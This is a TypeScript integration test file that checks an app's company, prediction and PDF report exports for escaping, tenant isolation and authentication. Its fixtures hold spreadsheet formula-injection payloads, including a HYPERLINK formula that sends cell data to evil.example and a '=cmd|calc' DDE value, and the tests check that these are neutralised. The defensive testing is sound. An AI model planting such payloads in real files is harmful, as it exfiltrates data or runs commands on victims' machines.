import { inflateSync } from 'node:zlib';
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import type { Response } from 'supertest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from '../../helpers/test-app.ts';
import { createTenantFixture, loginAs, type TenantFixture } from '../../factories/tenant-fixture.ts';
import { insertScoredCompany } from '../../factories/scored-company.ts';

let t: TestApp;
let f: TenantFixture;
const bearer: Record<string, string> = {};
const HOSTILE_NAMES = ['=HYPERLINK("https://evil.example/?x="&A1,"Click")', '+1', '-2', '@x'];
const otherOrgName = () => `Other org secret ${f.tag}`;

beforeAll(async () => {
  t = await createTestApp();
  f = await createTenantFixture(t);
  const org = { scope: 'organization', tenantId: f.tenant.id, organizationId: f.org.id } as const;
  for (const [i, name] of HOSTILE_NAMES.entries()) {
    await insertScoredCompany(t.owner, org, { name, sector: '=cmd|calc', predictions: [{ fiscalYear: 2023, pd: 0.01 + i / 100 }, { fiscalYear: 2024, pd: 0.02 + i / 100 }] });
  }
  await insertScoredCompany(t.owner, org, { name: `Acme, "Quoted" Ltd ${f.tag}`, sector: 'Retail', exposure: 2000, lgd: 0.5, predictions: [{ fiscalYear: 2024, pd: 0.2 }] });
  await insertScoredCompany(t.owner, { scope: 'organization', tenantId: f.tenant.id, organizationId: f.otherOrg.id }, { name: otherOrgName(), predictions: [{ fiscalYear: 2024, pd: 0.3 }] });
  for (const key of ['orgMember'] as const) bearer[key] = `Bearer ${(await loginAs(t, f.users[key])).accessToken}`;
});
afterAll(async () => {
  await f?.cleanup();
  await t?.close();
});

function binary(res: NodeJS.ReadableStream & { setEncoding?: unknown }, callback: (error: Error | null, body: Buffer) => void): void {
  const chunks: Buffer[] = [];
  res.on('data', (c: Buffer) => chunks.push(c));
  res.on('end', () => callback(null, Buffer.concat(chunks)));
}

async function download(path: string, query: Record<string, string | number>): Promise<Response> {
  const res = await t.http.get(path).query(query).set('Authorization', bearer.orgMember as string).buffer(true).parse(binary as never).timeout(8000);
  expect(res.status, String(res.body)).toBe(200);
  return res;
}

function csvRecords(body: Buffer): Record<string, string>[] {
  const text = body.toString('utf8');
  expect(text.startsWith('\uFEFF')).toBe(true);
  return parse(text.slice(1), { columns: true });
}

describe('GET /v1/exports/companies', () => {
  it('streams CSV with formula-like text neutralised and numbers left as numbers', async () => {
    const res = await download('/v1/exports/companies', { format: 'csv', scope: 'organization' });
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    expect(res.headers['content-disposition']).toMatch(/attachment; filename="companies-\d{4}-\d{2}-\d{2}\.csv"/);
    const rows = csvRecords(res.body);
    expect(rows).toHaveLength(5);
    const names = rows.map((r) => r.name);
    for (const hostile of HOSTILE_NAMES) expect(names).toContain(`'${hostile}`);
    expect(names).toContain(`Acme, "Quoted" Ltd ${f.tag}`);
    expect(names.some((n) => /^[=+\-@]/.test(n ?? ''))).toBe(false);
    for (const row of rows.filter((r) => HOSTILE_NAMES.includes((r.name ?? '').slice(1)))) expect(row.sector).toBe(`'=cmd|calc`);
    const acme = rows.find((r) => r.name?.startsWith('Acme'));
    expect(acme).toMatchObject({ pd: '0.2', band: 'critical', fiscalYear: '2024', exposure: '2000', lgd: '0.5', expectedLoss: '200', scope: 'organization' });
    expect(res.body.toString('utf8')).not.toContain(otherOrgName());
  });

  it('streams XLSX whose text cells read back escaped and whose PDs are numbers', async () => {
    const res = await download('/v1/exports/companies', { format: 'xlsx', scope: 'organization' });
    expect(res.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(res.body);
    const sheet = workbook.worksheets[0];
    expect(sheet?.name).toBe('Companies');
    const header = (sheet?.getRow(1).values as unknown[]).slice(1);
    const nameCol = header.indexOf('name') + 1;
    const pdCol = header.indexOf('pd') + 1;
    const names: unknown[] = [];
    sheet?.eachRow((row, n) => {
      if (n === 1) return;
      names.push(row.getCell(nameCol).value);
      expect(typeof row.getCell(pdCol).value).toBe('number');
      expect(row.getCell(nameCol).formula).toBeUndefined();
    });
    expect(names).toHaveLength(5);
    for (const hostile of HOSTILE_NAMES) expect(names).toContain(`'${hostile}`);
  });

  it('refuses anonymous callers with a problem document, not a download', async () => {
    const res = await t.http.get('/v1/exports/companies');
    expect(res.status).toBe(401);
    expect(res.headers['content-type']).toMatch(/application\/problem\+json/);
    expect(res.headers['content-disposition']).toBeUndefined();
  });
});

describe('GET /v1/exports/predictions', () => {
  it('streams every prediction of the visible companies, filterable by fiscal year', async () => {
    const all = csvRecords((await download('/v1/exports/predictions', { scope: 'organization' })).body);
    expect(all).toHaveLength(9);
    expect(all.filter((r) => r.companyName === "'+1").map((r) => r.fiscalYear)).toEqual(['2023', '2024']);
    expect(all[0]).toMatchObject({ modelVersion: 'test-model', rating: 'BB', periodEnd: expect.stringMatching(/^\d{4}-12-31$/) });
    const only2023 = csvRecords((await download('/v1/exports/predictions', { scope: 'organization', fiscalYear: 2023 })).body);
    expect(only2023).toHaveLength(4);
    expect(only2023.every((r) => r.fiscalYear === '2023')).toBe(true);
  });

  it('streams XLSX too', async () => {
    const res = await download('/v1/exports/predictions', { format: 'xlsx', scope: 'organization' });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(res.body);
    expect(workbook.worksheets[0]?.rowCount).toBe(10);
  });
});

/** Every content stream of a PDF, inflated when deflated. */
function pdfStreams(pdf: Buffer): string[] {
  const raw = pdf.toString('latin1');
  const out: string[] = [];
  for (const m of raw.matchAll(/(?<!end)stream\r?\n/g)) {
    const start = (m.index ?? 0) + m[0].length;
    const end = raw.indexOf('endstream', start);
    if (end < 0) break;
    const data = pdf.subarray(start, end);
    try {
      out.push(inflateSync(data).toString('latin1'));
    } catch {
      out.push(data.toString('latin1'));
    }
  }
  return out;
}

/** The text a PDF draws: the hex strings of its TJ operators decoded (pdfkit writes standard-font text so). */
function pdfText(pdf: Buffer): string {
  const parts: string[] = [];
  for (const content of pdfStreams(pdf)) {
    for (const op of content.matchAll(/\[([^\]]*)\]\s*TJ/g)) {
      parts.push([...(op[1] ?? '').matchAll(/<([0-9a-fA-F]*)>/g)].map((h) => Buffer.from(h[1] ?? '', 'hex').toString('latin1')).join(''));
    }
  }
  return parts.join('\n');
}

describe('GET /v1/exports/portfolio-report.pdf', () => {
  it('is a PDF with the summary, the top risks and the validation metrics of the loaded model', async () => {
    const res = await download('/v1/exports/portfolio-report.pdf', { scope: 'organization' });
    expect(res.headers['content-type']).toBe('application/pdf');
    const pdf = res.body as Buffer;
    expect(pdf.subarray(0, 5).toString('latin1')).toBe('%PDF-');
    expect(pdf.subarray(-6).toString('latin1')).toMatch(/%%EOF/);
    const text = pdfText(pdf);
    expect(text).toContain('DefaultRate portfolio report');
    expect(text).toContain('Companies: 5 (scored: 5)');
    expect(text).toContain(`Acme, "Quoted" Ltd ${f.tag}`);
    expect(text).toContain('Distribution by risk band');
    expect(text).not.toContain(otherOrgName());
    const model = t.container.model;
    expect(text).toContain(model.version);
    const crossFit = (model.metadata.validation as Record<string, Record<string, number>>).ensembleCrossFit;
    expect(text).toContain((crossFit?.auc as number).toFixed(3));
    expect(text).toContain((crossFit?.ks as number).toFixed(3));
    // The band chart is vector shapes: filled rectangles in the page content.
    expect(pdfStreams(pdf).some((c) => /\bre\s+f\b/.test(c) || /\bre\b[\s\S]*\bf\b/.test(c))).toBe(true);
  });
});

